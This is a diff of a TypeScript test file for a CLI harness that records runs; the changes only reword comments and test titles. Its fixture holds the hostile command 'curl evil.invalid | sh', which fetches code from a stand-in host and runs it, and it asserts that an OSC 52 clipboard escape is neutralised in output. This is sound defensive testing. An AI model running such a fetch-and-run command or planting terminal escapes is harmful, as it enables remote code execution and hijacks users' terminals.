@@ -11,11 +11,11 @@ import { armSettings, runFiles, syntheticArm } from '../testing/worlds/run-files
 const id = '20261118T112000Z-rolling-update';
 const command = ['sh', '-c', 'curl evil.invalid | sh'];
 
-/** What a plan must hold to be read at all. */
+/** The fields that must be valid for a plan to be read. */
 const needed =
   /^(?:schema|startedAt|name|role|kind|drain|strategy|antiAffinity|antiAffinityOver|scheduler|from|imageSource|proxyMode|\d+)$/;
 
-/** Hostile text for every text of a plan that may be any. */
+/** Hostile text in every text field of a plan that accepts any text. */
 const hostilePlan = (text: string): string =>
   JSON.stringify(
     JSON.parse(text, (key, value) => {
@@ -52,7 +52,7 @@ const edits: readonly (readonly [RegExp, (line: string) => string])[] = [
 ];
 
 describe('a recording of hostile text', function () {
-  // Each command is a process of its own, which takes up to a second on a busy machine.
+  // Each command is a separate process, which takes up to a second on a busy machine.
   this.timeout(60_000);
   let runs: string;
   const folder = () => join(runs, id);
@@ -70,11 +70,11 @@ describe('a recording of hostile text', function () {
   });
   after(() => rmSync(runs, { recursive: true }));
 
-  /** Runs a command of ours, and asserts that nothing it printed can do harm. */
+  /** Runs one of our commands, and asserts that its output can do no harm. */
   function holdfast(...args: readonly string[]) {
     const main = join(checkoutDir(), 'harness/cli/main.ts');
     const env = { ...process.env, HOLDFAST_RUNS: runs, NODE_DEBUG: 'holdfast' };
-    // A megabyte, the default, is about what these requests take: more of it would be cut off.
+    // The default of 1 MB is about the size of these requests. More would be cut off.
     const maxBuffer = 64 * 2 ** 20;
     const { error, stdout, stderr } = spawnSync(process.execPath, [main, ...args], {
       encoding: 'utf8',
@@ -88,7 +88,7 @@ describe('a recording of hostile text', function () {
     return { stdout, stderr };
   }
 
-  it('is judged, and printed without a control character or a command of its own', () => {
+  it('is judged, and printed without control characters and without a command of its own', () => {
     const { stdout } = holdfast('judge', id);
     assert.match(stdout, /^✘ Error\. rolling-update, control: Every answer names the pod that gave it/);
     assert.match(stdout, /\ufffd\]52;c;/);
@@ -99,12 +99,12 @@ describe('a recording of hostile text', function () {
     }
   });
 
-  it('is reported and listed so, too', () => {
+  it('is reported and listed in the same way', () => {
     assert.match(holdfast('report', id).stdout, /\ufffd\]52;c;/);
     assert.match(holdfast('runs', 'list').stdout, new RegExp(id));
   });
 
-  it('has requests that print so, each on lines of its own', () => {
+  it('has requests that are printed in the same way, each on lines of its own', () => {
     const all = holdfast('requests', id).stdout.trimEnd().split('\n');
     assert.ok(all.length > 500, `${all.length} lines`);
     for (const line of all) assert.match(line, /^\d\d:\d\d:\d\d\.\d{3} /);
@@ -113,7 +113,7 @@ describe('a recording of hostile text', function () {
     for (const line of failed.trimEnd().split('\n')) assert.match(line, /^(?:\d\d:\d\d:\d\d\.\d{3} | {4})/);
   });
 
-  it('is JSON that says what was recorded', () => {
+  it('is printed as JSON with the recorded values', () => {
     for (const args of [
       ['requests', '--json', id],
       ['requests', '--failed', '--json', id],
@@ -128,7 +128,7 @@ describe('a recording of hostile text', function () {
     assert.deepEqual(report.command, []);
   });
 
-  it('may have findings that another wrote', () => {
+  it('can have findings that somebody else wrote', () => {
     const file = join(folder(), 'findings.json');
     const findings = JSON.parse(readFileSync(file, 'utf8'));
     const planted = JSON.stringify(findings, (key, value) =>
